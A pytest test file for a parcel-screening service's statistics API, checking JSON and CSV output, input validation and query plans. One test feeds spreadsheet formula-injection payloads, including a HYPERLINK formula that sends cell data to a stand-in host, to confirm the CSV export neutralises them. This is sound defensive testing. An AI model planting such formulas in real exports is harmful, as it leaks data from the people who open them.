"""Figures over HTTP: as JSON and as CSV, what is refused, and that no statement reads a whole table."""

from __future__ import annotations

import csv
import io
import secrets
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import Connection, Select, insert, text
from sqlalchemy.dialects import postgresql, sqlite
from starlette.testclient import TestClient

from parcelray.serving.api.statistics_answers import StatisticsAnswer
from parcelray.serving.api.statistics_csv import written
from parcelray.serving.desk import statistics_statements as statements
from parcelray.serving.desk.statistics_period import Period
from parcelray.serving.people.roles import Role
from parcelray.serving.store.database import Database
from parcelray.serving.store.tables import (
    desk,
    detections,
    outcome_items,
    outcomes,
    scan_labels,
    scans,
    verdict_boxes,
    verdicts,
    views,
)
from support.people import SignedIn
from support.pictures import view

AT = datetime(2026, 11, 1, tzinfo=UTC)
MANY = 5000


def today() -> dict[str, str]:
    begins = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    return {"since": begins.isoformat(), "until": (begins + timedelta(hours=2)).isoformat()}


def test_a_supervisor_reads_what_was_screened(
    client: TestClient, sign_in: Callable[..., SignedIn], pistol_png: bytes
) -> None:
    period = today()
    answer = client.post("/v1/scans", files=[view(pistol_png, "a.png")])
    assert answer.status_code == 201
    supervisor = sign_in(client, Role.SUPERVISOR)
    figures = supervisor.request("GET", "/v1/statistics", params=period).json()
    assert figures["bucket"] == "hour"
    assert figures["model_in_service"] == {"name": "tiny", "version": "0000"}
    assert figures["models"] == [{"name": "tiny", "version": "0000", "scans": 1}]
    assert figures["period"]["scans"] == {
        "screened": 1, "partly_screened": 0, "not_screened": 0, "pending": 0, "with_alarm": 1,
    }  # fmt: skip
    assert figures["period"]["handling_s"] == {"count": 0, "median": None, "p90": None}
    assert figures["period"]["backlog"] == 1
    assert [bucket["backlog"] for bucket in figures["buckets"]] == [1, None]
    assert [(item["label"], item["highlighted"]) for item in figures["classes"]] == [("pistol", 1)]


def test_the_same_as_csv(client: TestClient, sign_in: Callable[..., SignedIn], pistol_png: bytes) -> None:
    period = today()
    client.post("/v1/scans", files=[view(pistol_png, "a.png")])
    auditor = sign_in(client, Role.AUDITOR)
    answer = auditor.request("GET", "/v1/statistics.csv", params=period)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"].startswith('attachment; filename="parcelray-2')
    assert answer.text.count("\r\n") == answer.text.count("\n") > 50
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert {len(row) for row in rows} == {5}
    whole = [row for row in rows if row["until"] == rows[-1]["until"] and row["since"] == rows[0]["since"]]
    told = {(row["figure"], row["of"]): row["value"] for row in whole}
    assert told["scans", "screened"] == "1"
    assert told["handling_s", "median"] == ""
    assert told["class.highlighted", "pistol"] == "1"
    assert told["model.scans", "tiny 0000"] == "1"
    assert told["model.in_service", ""] == "tiny 0000"
    figures = auditor.request("GET", "/v1/statistics", params=period).json()
    assert len(rows) == len(whole) + len(figures["buckets"]) * 23


def test_no_cell_is_a_formula(client: TestClient, sign_in: Callable[..., SignedIn]) -> None:
    answer = sign_in(client, Role.ENGINEER).request("GET", "/v1/statistics", params=today())
    figures = StatisticsAnswer.model_validate_json(answer.text)
    hostile = ("=1+1", "+1", "-1", "@SUM(1)", '=HYPERLINK("http://x.test?"&A1, "a, b")', "\ttab", "tiny")
    models = [{"name": name, "version": "1", "scans": 1} for name in hostile]
    text = written(StatisticsAnswer.model_validate({**figures.model_dump(), "models": models}))
    cells = [row["of"] for row in csv.DictReader(io.StringIO(text, newline="")) if row["figure"] == "model.scans"]
    assert cells == [*(f"'{name} 1" for name in hostile[:-1]), "tiny 1"]


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"since": None}, "query since"),
        ({"until": "2026-11-24"}, "expected a time as in RFC 3339"),
        ({"bucket": "week"}, "query bucket: expected 'hour' or 'day', got 'week'"),
        ({"until": "2199-01-01T00:00:00Z"}, "query until: expected at most 400 buckets from `since` on"),
        ({"since": "2026-11-24T08:30:00.5Z"}, "query since: expected a whole second"),
        ({"officer": "anna"}, "officer"),
    ],
)
@pytest.mark.parametrize("route", ["/v1/statistics", "/v1/statistics.csv"])
def test_what_cannot_be_asked_is_refused(
    client: TestClient, sign_in: Callable[..., SignedIn], route: str, changes: dict[str, str | None], says: str
) -> None:
    wanted = {name: value for name, value in {**today(), **changes}.items() if value is not None}
    answer = sign_in(client, Role.SUPERVISOR).request("GET", route, params=wanted)
    assert answer.status_code == 422
    assert answer.json()["type"] == "urn:parcelray:problem:bad-input"
    assert says in answer.json()["detail"]


@pytest.fixture
def many(database: Database) -> Database:
    """Thousands of parcels, an hour apart, as after half a year."""
    rows: dict[Any, list[dict[str, Any]]] = {}
    for number in range(1, MANY + 1):
        at = AT + timedelta(hours=number)
        given = {"number": number, "scan_number": number, "at": at, "by": "anna", "idempotency_key": f"{number}"}
        box = {"x0": 1.0, "y0": 2.0, "x1": 30.0, "y1": 40.0, "label": "pistol"}
        for table, row in (
            (scans, {"number": number, "id": secrets.token_hex(16), "state": "screened", "workstation": "belt-1",
                     "received_at": at, "at": at, "content_sha256": f"{number:064x}"}),
            (views, {"scan_number": number, "index": 0, "state": "screened", "warnings": []}),
            (detections, {"scan_number": number, "view_index": 0, "rank": 0, "group": "firearm", "score": 0.9, **box}),
            (scan_labels, {"label": "pistol", "at": at, "scan_number": number}),
            (desk, {"scan_number": number, "stage": "done", "severity": 1, "queued_at": at, "first_by": "anna",
                    "done_at": at}),
            (verdicts, {**given, "request_sha256": "0" * 64, "stage": "screen", "leads_to": "search",
                        "decision": "search", "reason": "alarm_confirmed", "opened_at": at}),
            (verdict_boxes, {"verdict_number": number, "position": 0, "view_index": 0, "rank": 0,
                             "action": "confirmed", "group": "firearm", **box}),
            (outcomes, {**given, "request_sha256": "0" * 64, "found": True}),
            (outcome_items, {"outcome_number": number, "position": 0, "label": "pistol", "where": "other",
                             "amount": "1.5", "currency": "EUR"}),
        ):  # fmt: skip
            rows.setdefault(table, []).append(row)
    with database.writing() as connection:
        for table, several in rows.items():
            connection.execute(insert(table), several)
    with database.writing() as connection:
        connection.execute(text("ANALYZE"))
    return database


def all_statements(period: Period) -> dict[str, Select[Any]]:
    done_since, not_done = statements.waiting_at_the_beginning(period)
    return {
        **{
            statement.__name__: statement(period)
            for statement in (
                statements.scans_by_state,
                statements.scans_by_model,
                statements.scans_with_alarm,
                statements.boxes_highlighted,
                statements.verdicts_by_decision,
                statements.handling_times,
                statements.waiting_times,
                statements.boxes_judged,
                statements.queued,
                statements.done,
                statements.searches,
                statements.seized_by_class,
                statements.money_found,
            )
        },
        "seized_by_programme": statements.seized_by_programme(period, {"pistol": "small arms"}),
        "waiting, done since": done_since,
        "waiting, not done": not_done,
    }


def plan_of(connection: Connection, statement: Select[Any]) -> str:
    dialect = sqlite.dialect() if connection.dialect.name == "sqlite" else postgresql.dialect()
    compiled = str(statement.compile(dialect=dialect, compile_kwargs={"literal_binds": True})).replace("%", "%%")
    explain = "EXPLAIN QUERY PLAN" if connection.dialect.name == "sqlite" else "EXPLAIN"
    return "\n".join(str(row[-1]) for row in connection.exec_driver_sql(f"{explain} {compiled}"))


def test_no_statement_reads_a_whole_table(many: Database) -> None:
    last = AT + timedelta(hours=MANY)
    tables = ("scans", "views", "detections", "scan_labels", "desk", "verdicts", "verdict_boxes", "outcomes")
    with many.reading() as connection:
        for name, statement in all_statements(Period(last - timedelta(hours=2), last, timedelta(hours=1))).items():
            plan = plan_of(connection, statement)
            for table in (*tables, "outcome_items", "later"):
                assert f"SCAN {table}" not in plan, f"{name}: {plan}"
                assert f"Seq Scan on {table}" not in plan, f"{name}: {plan}"
            assert "USING" in plan or "Index" in plan, f"{name}: {plan}"
